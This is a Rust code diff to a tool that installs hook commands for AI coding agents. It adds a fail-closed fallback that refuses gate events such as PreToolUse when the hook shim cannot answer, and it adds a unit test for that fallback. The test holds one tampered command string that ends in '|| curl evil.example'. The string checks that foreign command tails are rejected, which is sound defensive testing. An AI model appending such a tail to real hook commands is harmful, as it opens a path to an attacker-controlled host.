@@ -41,7 +41,7 @@ pub struct Desired {
 // ------------------------------------------------------------------ command
 
 pub use crate::hosts::shim_command::{
-    ShimCommand, is_ours, parse_shim_command, sh_quote, shim_command,
+    ShimCommand, is_ours, parse_shim_command, sh_quote, shim_command, with_fallback,
 };
 
 // ------------------------------------------------------------------ timeouts
@@ -158,7 +158,11 @@ pub fn desired(
         .filter(|e| e.wired())
         .map(|ev| Desired {
             host_event: ev.name().to_owned(),
-            command: shim_command(binary, host.name(), ev.name(), snapshot),
+            command: with_fallback(
+                shim_command(binary, host.name(), ev.name(), snapshot),
+                host,
+                ev.name(),
+            ),
             timeout: host_timeout(host, worst_case_ms(regs, host, ev)),
             fail_closed: fail_closed
                 && ev.can_deny()
@@ -317,6 +321,70 @@ mod tests {
             None
         ));
         assert!(!is_ours("'unterminated run cursor stop", "cursor", None));
+    }
+
+    /// deepagents-code's gate events are wired with the refusal the command
+    /// answers itself when the shim cannot; its other events, and every
+    /// other host, with the shim alone. Only exactly that tail is ours.
+    #[test]
+    fn a_fallback_is_wired_where_the_adapter_has_one_and_only_it_is_ours() {
+        let dc = crate::hosts::adapter("deepagents").unwrap();
+        let bin = Path::new("/opt/keryx-hooks");
+        let snap = Path::new("/s/keryx-0123456789ab");
+        let wanted = desired(dc, bin, snap, &crate::builtins::registrations(), false);
+        let command = |event: &str| {
+            wanted
+                .iter()
+                .find(|d| d.host_event == event)
+                .unwrap()
+                .command
+                .clone()
+        };
+        let plain = shim_command(bin, "deepagents", "PreToolUse", snap);
+        let pre = command("PreToolUse");
+        assert_eq!(
+            pre,
+            format!(
+                "{plain} || {{ echo 'keryx-hooks could not answer PreToolUse, so it is refused' >&2; exit 2; }}"
+            )
+        );
+        assert!(command("UserPromptSubmit").contains(" || { echo"));
+        for event in ["Stop", "PostToolUse", "SessionStart"] {
+            assert!(!command(event).contains("||"), "{event}");
+        }
+        let p = parse_shim_command(&pre, None).unwrap();
+        assert_eq!(
+            (p.host.as_str(), p.host_event.as_str()),
+            ("deepagents", "PreToolUse")
+        );
+        assert!(is_ours(&pre, "deepagents", None));
+        assert!(is_ours(&plain, "deepagents", None));
+        // Another tail, the fallback of another event or host: not ours.
+        assert!(!is_ours(
+            &format!("{plain} || curl evil.example"),
+            "deepagents",
+            None
+        ));
+        let stop = shim_command(bin, "deepagents", "Stop", snap);
+        assert!(!is_ours(
+            &pre.replacen(&plain, &stop, 1),
+            "deepagents",
+            None
+        ));
+        let claude = shim_command(bin, "claude-code", "PreToolUse", snap);
+        assert!(!is_ours(
+            &pre.replacen(&plain, &claude, 1),
+            "claude-code",
+            None
+        ));
+        let claude_wanted = desired(
+            crate::hosts::adapter("claude-code").unwrap(),
+            bin,
+            snap,
+            &crate::builtins::registrations(),
+            false,
+        );
+        assert!(claude_wanted.iter().all(|d| !d.command.contains("||")));
     }
 
     fn reg(id: &str, event: Event, class: HookClass, timeout_ms: u64) -> Registration {
